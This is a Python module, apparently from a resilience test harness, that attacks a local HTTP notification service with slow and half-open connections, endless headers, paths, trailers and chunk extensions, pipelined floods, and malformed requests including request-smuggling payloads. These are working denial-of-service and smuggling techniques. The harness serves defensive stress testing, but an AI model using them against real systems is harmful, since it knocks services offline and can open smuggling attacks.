"""Connections and request heads: silent, half said, endless, doubled, and bytes that are no HTTP."""

import asyncio
import contextlib
from collections.abc import AsyncIterator, Iterable

from attack.size import Size
from attack.target import HOST, NothingAttacked, Target

_PATIENCE_SECONDS = 30.0
_CHUNK = b"a" * 65536


async def silent(target: Target, size: Size) -> int:
    """More connections than a process may usually have open, and not a byte on them; meanwhile a caller that was there
    before goes on asking."""
    reader, writer = await asyncio.open_connection(HOST, target.port)
    async with _connections(target.port, size.connections) as opened:
        for _ in range(10):
            await _ask(target, reader, writer)
            await asyncio.sleep(size.hold_seconds / 10)
        writer.transport.abort()
        return len(opened)


async def half_said(target: Target, size: Size) -> int:
    """Connections that begin a request and say a field now and then, but never the end of the head."""
    async with _connections(target.port, size.connections) as opened:
        for line in (b"POST /v1/notifications HTTP/1.1\r\n", b"Host: x\r\n", b"X-More: y\r\n"):
            for writer in opened:
                writer.write(line)
            await asyncio.sleep(size.hold_seconds / 3)
        return len(opened)


async def slow_bodies(target: Target, size: Size) -> int:
    """Requests that announce a body and send a byte of it now and then."""
    head = _head(target, b"Content-Length: 100000\r\n\r\n")
    async with _connections(target.port, min(size.connections, 400)) as opened:
        for part in (head, b"{", b" "):
            for writer in opened:
                writer.write(part)
            await asyncio.sleep(size.hold_seconds / 3)
        return len(opened)


async def endless_lines(target: Target, size: Size) -> int:
    """Heads of header lines without an end."""
    line = b"X-Padding: " + b"a" * 1000 + b"\r\n"
    return await _flood(target, _repeated(line * 64, megabytes=size.head_mb))


async def one_long_value(target: Target, size: Size) -> int:
    """A head whose one field has no end."""
    return await _flood(target, [b"X-Padding: ", *_repeated(_CHUNK, megabytes=size.head_mb)])


async def endless_target(target: Target, size: Size) -> int:
    """A request line whose path has no end."""
    flood = [b"GET /", *_repeated(_CHUNK, megabytes=size.head_mb)]
    return await _send(target.port, flood)


async def endless_trailers(target: Target, size: Size) -> int:
    """A complete chunked body, then trailers without an end."""
    head = _head(target, b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n")
    line = b"X-Trailer: " + b"a" * 1000 + b"\r\n"
    return await _send(target.port, [head, *_repeated(line * 64, megabytes=size.head_mb)])


async def endless_chunk_extensions(target: Target, size: Size) -> int:
    """A chunk whose extension has no end."""
    head = _head(target, b"Transfer-Encoding: chunked\r\n\r\n2;")
    return await _send(target.port, [head, *_repeated(_CHUNK, megabytes=size.head_mb)])


async def pipelined(target: Target, size: Size) -> int:
    """Many requests in one write, the answers unread."""
    one = b"GET /healthz HTTP/1.1\r\nHost: x\r\n\r\n"
    count = size.requests * 20
    return await _send(target.port, [one * 100] * (count // 100)) * count


async def no_http(target: Target, size: Size) -> int:
    """Bytes that are no HTTP/1.1: TLS, HTTP/2, SMTP, noise, and HTTP that a parser may misread."""
    greetings = (
        b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03" + bytes(500),
        b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
        b"EHLO example.com\r\nMAIL FROM:<a@example.com>\r\n",
        bytes(range(256)) * 64,
        b"\r\n" * 5000,
        b"GET / HTTP/9.9\r\n\r\n",
        b"GET http://127.0.0.1:1/ HTTP/1.1\r\nHost: a\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n",
        b"GET / HTTP/1.1\r\nHost: a\r\n Folded: b\r\n\r\n",
        b"POST /v1/notifications HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nContent-Length: 6\r\n\r\n{}    ",
        b"POST / HTTP/1.1\r\nHost: a\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
        b"POST /v1/notifications HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffffff\r\n",
        b"POST /v1/notifications HTTP/1.1\r\nHost: a\r\nContent-Length: -1\r\n\r\n",
        b"POST /v1/notifications HTTP/1.1\r\nHost: a\r\nContent-Length: 99999999999999999999\r\n\r\n",
        b"GET /healthz HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n",
        b"CONNECT example.com:443 HTTP/1.1\r\nHost: example.com\r\n\r\n",
    )
    tried = 0
    for _ in range(max(1, size.requests // len(greetings))):
        for greeting in greetings:
            tried += await _send(target.port, [greeting])
    return tried


@contextlib.asynccontextmanager
async def _connections(port: int, count: int) -> AsyncIterator[list[asyncio.StreamWriter]]:
    """Up to that many connections; a refused one is in order. Raises NothingAttacked: none was opened."""
    opened: list[asyncio.StreamWriter] = []
    try:
        for _ in range(count):
            try:
                async with asyncio.timeout(5):
                    _, writer = await asyncio.open_connection(HOST, port)
            except (OSError, TimeoutError):
                continue  # The target's queue of connections is full.
            opened.append(writer)
        if not opened:
            raise NothingAttacked(f"none of {count} connections could be opened")
        yield opened
    finally:
        for writer in opened:
            writer.transport.abort()


async def _ask(target: Target, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """A notification on a connection that is kept; whatever is answered."""
    to = b'{"to":[{"channel":"webhook","address":"' + target.hook.encode() + b'"}],"content":{"title":"x"}}'
    try:
        async with asyncio.timeout(10):
            writer.write(_head(target, b"Content-Length: %d\r\n\r\n%b" % (len(to), to)))
            head = await reader.readuntil(b"\r\n\r\n")
            for line in head.lower().split(b"\r\n"):
                if line.startswith(b"content-length:"):
                    await reader.readexactly(int(line.partition(b":")[2]))
    except (OSError, TimeoutError, asyncio.IncompleteReadError):
        pass  # Closed, or not answered: whether the target still works is asked afterwards.


async def _flood(target: Target, fields: Iterable[bytes]) -> int:
    return await _send(target.port, [b"GET /healthz HTTP/1.1\r\nHost: x\r\n", *fields])


async def _send(port: int, parts: Iterable[bytes]) -> int:
    """Send all of it or until the target has had enough, then take what it answers; 1, for one try."""
    reader, writer = await asyncio.open_connection(HOST, port)
    try:
        async with asyncio.timeout(_PATIENCE_SECONDS):
            for part in parts:
                writer.write(part)
                await writer.drain()
            if writer.can_write_eof():
                writer.write_eof()
            while await reader.read(65536):
                pass
    except (OSError, TimeoutError):
        pass  # It closed the connection, or left it to its own time-out: both end the attack.
    finally:
        writer.transport.abort()
    return 1


def _head(target: Target, rest: bytes) -> bytes:
    return (
        b"POST /v1/notifications HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
        b"Authorization: Bearer " + target.key.encode() + b"\r\n" + rest
    )


def _repeated(part: bytes, *, megabytes: int) -> Iterable[bytes]:
    for _ in range(megabytes * 1_000_000 // len(part)):
        yield part
